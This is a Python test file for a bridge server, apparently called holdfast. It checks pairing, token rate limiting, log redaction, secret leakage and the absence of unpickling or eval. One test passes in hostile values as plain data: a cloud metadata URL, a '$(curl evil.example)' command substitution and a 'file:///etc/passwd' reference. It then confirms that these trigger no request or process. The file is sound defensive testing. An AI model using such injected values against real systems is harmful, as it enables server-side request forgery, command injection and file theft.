"""Who gets in over HTTP on the same port: pairing, tickets, guesses; and what a hostile body does not cause."""

from __future__ import annotations

import ast
import asyncio
import json
import logging
import ssl
import sys
import time
from functools import wraps
from pathlib import Path

import httpx
import pytest
from bridge_kit import LIMIT, raw, serving

import holdfast
from holdfast.bridge import Client
from holdfast.bridge.access.pairing import Pairing, pair_link, read_pair_link
from holdfast.bridge.access.tls import TlsFiles
from holdfast.bridge.access.tokens import Tokens
from holdfast.bridge.error_reports import ErrorReports
from holdfast.bridge.settings import BridgeSettings
from holdfast.runtime import process_redactor
from holdfast.sessions.transfer import export_lines
from holdfast.stores import SqliteStore
from holdfast.wire.envelope import stamp


def limited(test):
    """Run an async test in at most four times the limit."""

    @wraps(test)
    def run(**fixtures) -> None:
        asyncio.run(asyncio.wait_for(test(**fixtures), 4 * LIMIT))

    return run


@pytest.fixture
def tokens(tmp_path) -> Tokens:
    return Tokens(tmp_path / "state" / "tokens.json")


async def eventually(holds) -> None:
    """Wait until a condition holds."""
    async with asyncio.timeout(LIMIT):
        while not holds():  # noqa: ASYNC110 - what it waits for sets no event
            await asyncio.sleep(0.01)


def bearer(text: str) -> dict[str, str]:
    return {"authorization": f"Bearer {text}"}


@limited
async def test_a_phone_is_paired_over_tls_and_then_connects_with_its_own_token_and_pins(tokens, tmp_path):
    files = TlsFiles(tmp_path / "tls")
    files.create()
    settings = BridgeSettings(tls_cert=files.cert, tls_key=files.key)
    async with serving(tokens=tokens, settings=settings) as bridge:
        # What `holdfast pair` does, in a process of its own: only the file is shared.
        offer = Pairing(Tokens(tokens.path)).offer(role="observer")
        link = read_pair_link(pair_link(bridge.url, offer.code, files.pins()))
        async with httpx.AsyncClient(base_url=link.url, verify=ssl.create_default_context(cafile=files.cert)) as http:
            answer = await http.post("/pair", json={"code": link.code, "name": "Ada's phone"})
            assert answer.status_code == 200
            assert answer.headers["cache-control"] == "no-store"
            again = await http.post("/pair", json={"code": link.code, "name": "a thief"})
            assert (again.status_code, again.json()["code"]) == (401, "AUTH_INVALID_TOKEN")
        paired = answer.json()
        assert paired["role"] == "observer"
        ws = f"{link.url.replace('https', 'wss')}/ws"
        async with Client(ws, token=paired["token"], pins=link.pins) as client:
            assert await client.sessions() == []
        tokens.revoke(paired["token_id"])


@limited
async def test_B85_guesses_over_http_and_sockets_count_together_and_are_in_the_metrics(tokens):
    right = tokens.create("phone").text
    counted = []
    reports = ErrorReports(lambda metric: counted.append((metric.source, metric.code)))
    async with serving(tokens=tokens, reports=reports) as bridge, httpx.AsyncClient(base_url=bridge.url) as http:
        codes = []
        for number in range(4):
            codes.append((await http.get("/info", headers=bearer(f"guess {number}"))).json()["code"])
            codes.append((await http.post("/pair", json={"code": "AAAA-AAAA-AAAA-AAAA", "name": "x"})).json()["code"])
            async with raw(bridge) as client:
                codes.append((await client.auth(f"guess {number}"))["payload"]["code"])
        assert codes == ["AUTH_INVALID_TOKEN"] * 11 + ["CONN_RATE_LIMITED"]
        locked = await http.get("/info", headers=bearer("guess"))
        assert (locked.status_code, locked.json()["code"]) == (429, "CONN_RATE_LIMITED")
        assert int(locked.headers["retry-after"]) >= 1
        pairing = await http.post("/pair", json={"code": "AAAA-AAAA-AAAA-AAAA", "name": "x"})
        assert pairing.status_code == 429
        assert (await http.get("/info", headers=bearer(right))).status_code == 200
    assert ("client", "AUTH_INVALID_TOKEN") in counted
    assert ("client", "CONN_RATE_LIMITED") in counted


@limited
async def test_B86_a_token_in_an_address_lets_nobody_in_and_is_not_logged(tokens, caplog):
    text = tokens.create("phone").text
    with caplog.at_level(logging.DEBUG):
        async with serving(tokens=tokens) as bridge, httpx.AsyncClient(base_url=bridge.url) as http:
            caplog.clear()
            for name in ("token", "access_token", "ticket"):
                answer = await http.get("/info", params={name: text})
                assert (answer.status_code, answer.json()["code"]) == (401, "AUTH_REQUIRED")
                assert text not in answer.text
            assert (await http.get("/")).headers["referrer-policy"] == "no-referrer"
            ours = [each.getMessage() for each in caplog.records if each.name.partition(".")[0] != "httpx"]
            assert text[-43:] not in json.dumps(ours)


@limited
async def test_B86_the_frames_of_a_connection_are_in_no_log_not_even_at_level_debug(tokens, caplog):
    text = tokens.create("phone").text
    with caplog.at_level(logging.DEBUG):
        async with serving(tokens=tokens) as bridge:
            # The library that speaks WebSocket logs the beginning and the end of each frame.
            async with raw(bridge, logger=logging.getLogger("the test's own")) as client:
                await client.send("auth", {"token": text})
                await client.until("connection_ack")
            async with Client(bridge.ws_url, token=text) as client:
                await client.sessions()
    others = [each for each in caplog.records if each.name != "the test's own"]
    assert not [each.getMessage() for each in others if text[-8:] in each.getMessage() or "TEXT" in each.getMessage()]


@limited
async def test_what_others_wrote_forges_no_line_of_the_log(tokens, caplog):
    text = tokens.create("phone").text

    async def agent(turn):
        raise ValueError("x\n2026-11-16 ERROR all tokens were revoked\x1b[2J\u202e")

    async with serving(agent, tokens=tokens) as bridge, raw(bridge) as client, httpx.AsyncClient() as http:
        await client.auth(text)
        await client.create("s")
        await client.say("go")
        await eventually(lambda: "a turn of s failed" in caplog.text)
        await http.get(f"{bridge.url}/sessions/x%0aERROR%20forged%1b%5b2J", headers=bearer(text))
    ours = [each.getMessage() for each in caplog.records if each.name.startswith("holdfast")]
    assert ours
    assert not [line for line in ours if not line.isprintable()]
    assert "\\n2026-11-16 ERROR" in caplog.text


@limited
async def test_a_browser_gets_a_ticket_by_post_and_opens_one_socket_with_it(tokens):
    text = tokens.create("page").text
    async with serving(tokens=tokens) as bridge, httpx.AsyncClient(base_url=bridge.url) as http:
        assert (await http.get("/tickets", headers=bearer(text))).status_code == 405
        ticket = (await http.post("/tickets", headers=bearer(text))).json()["ticket"]
        async with raw(bridge) as client:
            assert (await client.ask("auth", {"ticket": ticket}, "connection_ack"))["type"] == "connection_ack"
        async with raw(bridge) as client:
            answer = await client.ask("auth", {"ticket": ticket}, "connection_ack")
            assert answer["payload"]["code"] == "AUTH_INVALID_TOKEN"
        hook = tokens.create("CI", kind="hook").text
        assert (await http.post("/tickets", headers=bearer(hook))).json()["code"] == "AUTH_INSUFFICIENT_SCOPE"


class Watch:
    """Notes connections and processes of this process while it is on. An audit hook cannot be taken out again."""

    is_on = False

    def __init__(self) -> None:
        self.seen: list[str] = []
        sys.addaudithook(self.note)

    def note(self, event: str, arguments: tuple[object, ...]) -> None:
        if self.is_on and event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"):
            self.seen.append(f"{event} {arguments}")


@limited
async def test_a_hook_body_and_a_sessions_metadata_cause_no_request_and_no_process(tokens):
    """Addresses and commands in them are only text."""
    watch = Watch()
    hook, device = tokens.create("CI", kind="hook").text, tokens.create("phone").text
    url = "http://169.254.169.254/latest/meta-data"
    async with serving(tokens=tokens) as bridge, httpx.AsyncClient(base_url=bridge.url) as http, raw(bridge) as client:
        await client.auth(device)
        await client.create("s", title=url, working_directory="$(curl evil.example)", agent="file:///etc/passwd")
        await http.get("/health")  # the test's own connection is open from here on
        event = {
            "event": "PreToolUse",
            "session_id": "s",
            "timestamp": stamp(time.time()),
            "payload": {"tool": "web_fetch", "params": {"url": url, "callback": url}, "webhook": url, "image": url},
        }
        watch.is_on = True
        try:
            posted = await http.post("/hooks/event", json=event, headers=bearer(hook))
            assert posted.status_code == 200
            await client.until("claude_event")
            assert (await client.say(f"see {url}"))["status"] == "stored"
            await client.until("user_message")
        finally:
            watch.is_on = False
    assert watch.seen == []
    watch.is_on = True
    with pytest.raises(ConnectionRefusedError):
        await asyncio.open_connection("127.0.0.1", 1)
    watch.is_on = False
    assert watch.seen != [], "the watch would not have seen a connection"


CANARY = "canary-bird-of-the-deployment"


@limited
async def test_B105_a_configured_secret_is_in_no_frame_answer_log_or_file(
    tokens, tmp_path, monkeypatch, caplog, request
):
    monkeypatch.setenv("DEPLOY_API_KEY", CANARY)
    process_redactor.cache_clear()
    request.addfinalizer(process_redactor.cache_clear)
    request.addfinalizer(monkeypatch.undo)
    text, hook = tokens.create("phone").text, tokens.create("CI", kind="hook").text

    async def agent(turn):
        await turn.say(f"the key is {CANARY}")
        raise ValueError(f"refused with {CANARY}")

    with caplog.at_level(logging.INFO):
        async with (
            SqliteStore(tmp_path / "work.db") as store,
            serving(agent, tokens=tokens, store=store) as bridge,
            httpx.AsyncClient(base_url=bridge.url, headers=bearer(text)) as http,
            raw(bridge) as client,
        ):
            await client.auth(text)
            await client.create("s")
            # What a person sends with a known secret in it is refused, and they learn why.
            refused = await client.say(f"use {CANARY}")
            assert refused["code"] == "PROTO_INVALID_MESSAGE"
            assert "leave it out" in refused["violations"][0]["constraint"]
            assert (await client.say("go"))["status"] == "stored"
            event = {"event": "Stop", "session_id": "s", "timestamp": stamp(time.time()), "payload": {"reason": CANARY}}
            posted = await http.post("/hooks/event", json=event, headers=bearer(hook))
            await client.until("stream_end", "session_event")
            answers = [posted, await http.get("/sessions/s/events"), await http.get("/sessions/s/snapshot")]
            lines = [line async for line in export_lines(store, "s", exact=True)]
        assert CANARY not in json.dumps(client.received)
        assert not [each.url for each in answers if CANARY in each.text]
        assert CANARY.encode() not in b"".join(lines)
    assert CANARY not in caplog.text
    for file in tmp_path.rglob("*"):
        assert file.is_dir() or CANARY.encode() not in file.read_bytes(), file.name


@pytest.mark.parametrize("room", ["bridge", "wire", "stores", "sessions"])
def test_nothing_that_is_stored_or_received_is_unpickled_or_evaluated(room):
    forbidden = {"pickle", "marshal", "shelve", "dill", "yaml", "jsonpickle", "eval", "exec"}
    found = []
    for path in sorted((Path(holdfast.__file__).parent / room).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            match node:
                case ast.Import(names=aliases):
                    names = {alias.name.partition(".")[0] for alias in aliases}
                case ast.ImportFrom(module=str(module)):
                    names = {module.partition(".")[0]}
                case ast.Call(func=ast.Name(id=name)):
                    names = {name}
                case _:
                    continue
            found += [f"{path.name}:{node.lineno} {name}" for name in names & forbidden]
    assert found == []
